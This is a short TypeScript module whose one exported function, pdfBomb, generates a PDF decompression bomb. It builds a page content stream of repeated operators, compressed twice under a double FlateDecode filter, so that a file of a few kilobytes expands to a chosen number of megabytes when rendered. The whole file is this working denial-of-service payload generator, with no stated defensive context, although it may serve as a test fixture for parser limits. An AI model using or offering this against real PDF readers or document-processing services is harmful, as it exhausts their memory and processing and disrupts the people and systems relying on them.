import { constants, deflateRawSync, deflateSync } from 'node:zlib'

/** Creates a PDF of a few kilobytes whose page is so many megabytes of operators, compressed twice. */
export const pdfBomb = (megabytes: number): Buffer => {
  const block = deflateRawSync('BT ET q Q '.repeat(100_000), { finishFlush: constants.Z_FULL_FLUSH })
  const blocks = Array.from({ length: megabytes }, () => block)
  const drawn = deflateSync(Buffer.concat([Buffer.from([0x78, 0x9c]), ...blocks, Buffer.from([3, 0])]))
  const head = `%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >> endobj
4 0 obj << /Length ${drawn.length} /Filter [/FlateDecode /FlateDecode] >>
stream
`
  const tail = '\nendstream endobj\ntrailer << /Size 5 /Root 1 0 R >>\n%%EOF'
  return Buffer.concat([Buffer.from(head), drawn, Buffer.from(tail)])
}
